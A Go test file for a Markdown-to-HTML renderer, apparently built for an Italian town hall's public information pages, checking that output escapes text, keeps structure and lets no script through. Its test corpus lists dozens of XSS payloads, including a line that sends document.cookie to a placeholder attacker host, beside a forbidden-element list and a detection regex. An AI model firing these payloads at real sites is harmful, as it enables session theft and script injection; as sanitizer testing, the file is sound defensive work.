package markup

import (
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"
)

// forbidden are the elements that must never come out: scripts and styles, frames and
// plugins, SVG and MathML (which carry scripts of their own), forms, and the tags that redirect
// or restyle the page.
var forbidden = []string{"script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg",
	"math", "form", "input", "button", "textarea", "select", "link", "meta", "base", "template", "noscript"}

// rawScript catches a script element in the output text itself, whatever the parser makes of it.
var rawScript = regexp.MustCompile(`(?i)<\s*/?\s*(script|iframe|svg|style)`)

// unsafeIn parses the output as a browser would and returns the first thing in it that could
// run a script or load another page: a forbidden element, an event handler or style attribute,
// or a URL whose scheme is not http, https or mailto.
func unsafeIn(out string) string {
	if rawScript.MatchString(out) {
		return rawScript.FindString(out)
	}
	nodes, err := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, Data: "div", DataAtom: atom.Div})
	if err != nil {
		return "unparseable: " + err.Error()
	}
	var walk func(n *html.Node) string
	walk = func(n *html.Node) string {
		if n.Type == html.ElementNode {
			if slices.Contains(forbidden, strings.ToLower(n.Data)) {
				return "<" + n.Data + ">"
			}
			for _, a := range n.Attr {
				key := strings.ToLower(a.Key)
				switch {
				case strings.HasPrefix(key, "on"), key == "style", key == "srcdoc", key == "formaction":
					return a.Key + "=" + a.Val
				case key == "href" || key == "src" || key == "srcset" || key == "action" || key == "poster" ||
					key == "background" || strings.HasSuffix(key, ":href"):
					u, err := url.Parse(strings.TrimSpace(a.Val))
					if err != nil || !slices.Contains([]string{"", "http", "https", "mailto"}, strings.ToLower(u.Scheme)) {
						return a.Key + "=" + a.Val
					}
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			if bad := walk(c); bad != "" {
				return bad
			}
		}
		return ""
	}
	for _, n := range nodes {
		if bad := walk(n); bad != "" {
			return bad
		}
	}
	return ""
}

func TestRenderNeverLetsAScriptOut(t *testing.T) {
	corpus := []struct{ name, in string }{
		{"script tag", `<script>alert(1)</script>`},
		{"script tag in a paragraph", "Orari dell'ufficio <script>document.location='https://evil.example/?c='+document.cookie</script>"},
		{"script with odd case and spaces", `<ScRiPt >alert(1)</sCrIpT >`},
		{"unclosed script", `<script src=https://evil.example/x.js>`},
		{"img onerror", `<img src=x onerror=alert(1)>`},
		{"img onerror quoted", `<img src="https://example.it/a.png" onerror="alert(1)">`},
		{"body onload", `<body onload=alert(1)>`},
		{"div onmouseover", `<div onmouseover="alert(1)">passa qui</div>`},
		{"javascript link in Markdown", `[clicca](javascript:alert(1))`},
		{"javascript link with spaces and case", `[clicca](  JaVaScRiPt:alert(1))`},
		{"javascript link as reference", "[clicca][x]\n\n[x]: javascript:alert(1)"},
		{"javascript autolink", `<javascript:alert(1)>`},
		{"data link in Markdown", `[clicca](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`},
		{"data image in Markdown", `![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`},
		{"vbscript link", `[x](vbscript:msgbox(1))`},
		{"javascript link in raw HTML", `<a href="javascript:alert(1)">clicca</a>`},
		{"data link in raw HTML", `<a href="data:text/html,<script>alert(1)</script>">clicca</a>`},
		{"entity-encoded javascript", `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`},
		{"hex-entity javascript", `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`},
		{"entity in Markdown link", `[x](jav&#x61;script:alert(1))`},
		{"tab inside the scheme", "<a href=\"jav\tascript:alert(1)\">x</a>"},
		{"newline inside the scheme", "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>"},
		{"iframe", `<iframe src="https://evil.example"></iframe>`},
		{"iframe srcdoc", `<iframe srcdoc="<script>alert(1)</script>"></iframe>`},
		{"object and embed", `<object data="x.swf"></object><embed src="x.swf">`},
		{"style element", `<style>body{background:url("javascript:alert(1)")}</style>`},
		{"style attribute", `<p style="background-image:url(javascript:alert(1))">x</p>`},
		{"svg with script", `<svg><script>alert(1)</script></svg>`},
		{"svg onload", `<svg onload=alert(1)>`},
		{"svg animate href", `<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>`},
		{"math with link", `<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>`},
		{"form with formaction", `<form><button formaction="javascript:alert(1)">x</button></form>`},
		{"meta refresh", `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`},
		{"base href", `<base href="javascript:alert(1)//">`},
		{"link stylesheet", `<link rel="stylesheet" href="https://evil.example/x.css">`},
		{"nested tags to rebuild a script", `<scr<script>ipt>alert(1)</scr</script>ipt>`},
		{"comment hiding a script", `<!--<script>alert(1)</script>--><script>alert(2)</script>`},
		{"CDATA", `<![CDATA[<script>alert(1)</script>]]>`},
		{"script in a table cell", "| a |\n|---|\n| <script>alert(1)</script> |"},
		{"img in a Markdown link", `[![x](https://example.it/a.png)](javascript:alert(1))`},
		{"noscript trick", `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`},
		{"attribute breaking out", `<img src="x" alt="" onerror="alert(1)" ">`},
		{"srcset with javascript", `<img srcset="javascript:alert(1) 1x">`},
		{"xlink href", `<a xlink:href="javascript:alert(1)">x</a>`},
		{"template", `<template><script>alert(1)</script></template>`},
		{"code block keeps text only", "```html\n<script>alert(1)</script>\n```"},
	}
	for _, c := range corpus {
		t.Run(c.name, func(t *testing.T) {
			out, _, err := Render(c.in)
			if err != nil {
				t.Fatal(err)
			}
			if bad := unsafeIn(out); bad != "" {
				t.Fatalf("Render(%q) = %q: %s came out", c.in, out, bad)
			}
		})
	}
}

func TestRenderKeepsTheStructureOfAText(t *testing.T) {
	in := "# Ufficio Relazioni con il Pubblico\n\n" +
		"## Orari\n\n" +
		"| Giorno | Mattina | Pomeriggio |\n|---|---|---|\n| Martedì | 9-13 | 16-18 |\n\n" +
		"- Piazza del Municipio 1\n- primo piano\n\n" +
		"1. prenota\n2. vieni\n\n" +
		"Scrivi a [urp@comune.example.it](mailto:urp@comune.example.it), leggi la " +
		"[carta dei servizi](https://www.comune.example.it/carta) o la [pagina dei tributi](/vivere-il-comune/tributi).\n\n" +
		"![L'ingresso del municipio](https://www.comune.example.it/img/municipio.jpg \"Municipio\")\n\n" +
		"**Importante**: *sempre* ~~mai~~ `codice`\n\n> una citazione\n"
	out, plain, err := Render(in)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"<h1>Ufficio Relazioni con il Pubblico</h1>", "<h2>Orari</h2>",
		"<table>", "<th>Giorno</th>", "<td>Martedì</td>",
		"<ul>", "<li>Piazza del Municipio 1</li>", "<ol>",
		`<a href="mailto:urp@comune.example.it" rel="nofollow">`,
		`<a href="https://www.comune.example.it/carta" rel="nofollow noopener" target="_blank">`,
		`<a href="/vivere-il-comune/tributi" rel="nofollow">`,
		`<img src="https://www.comune.example.it/img/municipio.jpg" alt="L&#39;ingresso del municipio" title="Municipio">`,
		"<strong>Importante</strong>", "<em>sempre</em>", "<del>mai</del>", "<code>codice</code>", "<blockquote>",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("missing %s in\n%s", want, out)
		}
	}
	if !strings.Contains(plain, "Martedì 9-13 16-18") || strings.Contains(plain, "<") {
		t.Errorf("plain text = %q", plain)
	}
}

func TestRenderEscapesTextThatLooksLikeHTML(t *testing.T) {
	out, plain, err := Render(`Costi: 5 < 10 & "gratis" per i minori`)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out, "5 &lt; 10 &amp; &#34;gratis&#34;") {
		t.Fatalf("html = %q", out)
	}
	if plain != `Costi: 5 < 10 & "gratis" per i minori` {
		t.Fatalf("plain = %q", plain)
	}
}

// The check above is only as good as unsafeIn: it must flag what the sanitizer removes.
func TestUnsafeInFlagsWhatTheSanitizerMustRemove(t *testing.T) {
	for _, bad := range []string{`<script>x</script>`, `<img src="a.png" onerror="x">`, `<a href="javascript:x">a</a>`,
		`<a href=" data:text/html,x">a</a>`, `<p style="color:red">a</p>`, `<svg></svg>`, `<iframe src="https://x.it"></iframe>`} {
		if unsafeIn(bad) == "" {
			t.Errorf("unsafeIn(%q) found nothing", bad)
		}
	}
	if bad := unsafeIn(`<p><a href="https://x.it" rel="nofollow">a</a> <img src="/a.png" alt="b"></p>`); bad != "" {
		t.Errorf("unsafeIn flagged a safe text: %s", bad)
	}
}

// BenchmarkRender renders a page of the size of the URP's, once per save: reads cost nothing.
func BenchmarkRender(b *testing.B) {
	page := strings.Repeat("## Orari\n\n| Giorno | Mattina | Pomeriggio |\n|---|---|---|\n| Martedì | 9-13 | 16-18 |\n\n"+
		"Scrivi all'[URP](mailto:urp@comune.example.it) o leggi la [carta dei servizi](https://www.comune.example.it/carta).\n\n"+
		"- primo punto\n- secondo punto con **grassetto**\n\n", 10)
	b.SetBytes(int64(len(page)))
	for b.Loop() {
		if _, _, err := Render(page); err != nil {
			b.Fatal(err)
		}
	}
}
